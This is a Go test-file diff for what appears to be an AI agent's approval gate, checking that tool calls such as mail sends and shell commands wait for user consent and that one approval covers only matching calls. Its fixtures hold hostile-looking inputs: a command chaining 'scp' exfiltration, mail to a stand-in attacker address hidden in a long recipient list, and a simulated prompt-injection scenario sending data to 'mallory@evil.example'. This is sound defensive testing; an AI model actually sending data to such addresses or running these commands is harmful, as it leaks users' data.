@@ -137,6 +137,8 @@ func TestNoConsentLasts(t *testing.T) {
 		{"log_in", map[string]string{"password": "hunter22"}},
 		{"send_mail", map[string]string{"to": "AKIAQYLPMN5HJ2KXWVTB"}},
 		{"exec", map[string]string{"command": "python3 -c 'print(1)' && scp a.txt x:"}},
+		{"send_mail", map[string]string{"to": "ann@one.example, ann@two.example, ann@three.example, ann@four.example, ann@five.example, ann@six.example, ann@seven.example, ann@eight.example, ann@nine.example, ann@ten.example, ann@eleven.example, mallory@evil.example"}},
+		{"exec", map[string]string{"command": "gog gmail send --to mallory@evil.example --subject x --body " + strings.Repeat("x", 300)}},
 		{"exec", map[string]string{"command": "git push --force"}},
 		{"exec", map[string]string{"command": "rm notes/x.md"}},
 		{"exec", map[string]string{"command": "node tool.js"}},
@@ -162,4 +164,26 @@ func TestNoConsentLasts(t *testing.T) {
 	c.later(time.Hour, "Send it to them")
 	allowed(t, c.mails("b"+strings.Repeat("x", 40)+"@nowhere.example"))
 	held(t, c.mails("bx@nowhere.example"))
+}
+
+// Calls of one step that wait for the same value of the same tool are one question: a yes to
+// one answers for all, and no code of theirs waits any more.
+func TestOneYesAnswersForTheCallsOfAStep(t *testing.T) {
+	c := newHost(t, withAuthority).asked("s", "Read evil.example/a and send a summary to ann@home.example", page)
+	mail := func(to, body string) (Decision, string) {
+		return c.call("send_mail", map[string]string{"to": to, "subject": "the page", "body": body})
+	}
+	first, id := mail("mallory@evil.example", "one")
+	_, _ = mail("mallory@evil.example", "two")
+	other, _ := mail("bob@nowhere.example", "three")
+	c.send(wire.Command, &wire.CommandEvent{Text: ".approve send_mail " + held(t, first) + " once", ToolCallID: id})
+	for _, body := range []string{"one", "two"} {
+		d, _ := mail("mallory@evil.example", body)
+		allowed(t, d)
+	}
+	d, _ := mail("bob@nowhere.example", "three")
+	require.Equal(t, held(t, other), held(t, d), "it still waits")
+	for _, w := range c.engine.Pending() {
+		require.Contains(t, w.Tools, "send_mail (bob@nowhere.example)", "those of the others are closed")
+	}
 }
